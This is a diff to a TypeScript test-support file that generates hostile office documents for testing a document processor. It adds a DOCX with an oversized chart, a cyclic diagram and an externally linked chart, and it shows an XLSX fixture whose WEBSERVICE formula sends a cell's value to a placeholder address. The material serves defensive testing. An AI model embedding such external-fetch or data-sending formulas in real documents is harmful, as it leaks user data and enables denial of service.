@@ -1,5 +1,14 @@
 import type { TypesetFormatId } from 'contract/formats';
-import { madeDocx, madeOpenDocument, madePptx, madeRelations, madeXlsx, madeZip } from './made-package.test-support.ts';
+import {
+  madeChart,
+  madeDiagram,
+  madeDocx,
+  madeOpenDocument,
+  madePptx,
+  madeRelations,
+  madeXlsx,
+  madeZip,
+} from './made-package.test-support.ts';
 
 export interface HostileFile {
   readonly what: string;
@@ -69,6 +78,21 @@ export function madeHostileFiles(size: number, address = 'http://127.0.0.1:9'): 
         '<w:p><w:r><w:t>Seen</w:t><w:drawing><a:blip r:embed="rId1"/></w:drawing></w:r></w:p>',
         { 'word/a.png': hugePicture() },
         { rId1: ['image', 'a.png'] },
+      ),
+    },
+    {
+      what: 'a chart of series without an end and a diagram that goes round',
+      format: 'docx',
+      content: madeDocx(
+        '<w:p><w:r><w:drawing><c:chart r:id="rId1"/><dgm:relIds r:dm="rId2"/><c:chart r:id="rId3"/></w:drawing></w:r></w:p>',
+        {
+          'word/chart1.xml': madeChart('Endless', ['a'], Object.fromEntries(seriesOf(5_000 * size))),
+          'word/data1.xml': madeDiagram([
+            ['Egg', 'Hen'],
+            ['Hen', 'Egg'],
+          ]),
+        },
+        { rId1: ['chart', 'chart1.xml'], rId2: ['diagramData', 'data1.xml'], rId3: ['chart', `${address}/chart.xml`] },
       ),
     },
     { what: 'a formula that calls out', format: 'xlsx', content: madeXlsx({ A: formulaTo(address) }) },
@@ -145,6 +169,7 @@ export function madeHostileFiles(size: number, address = 'http://127.0.0.1:9'): 
   ];
 }
 
+const seriesOf = (count: number) => Array.from({ length: count }, (_none, at) => [`s${at}`, [at]] as const);
 const formulaTo = (address: string) => `<row><c t="str"><f>WEBSERVICE("${address}/"&amp;A2)</f><v>saved</v></c></row>`;
 const FAR = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>';
 
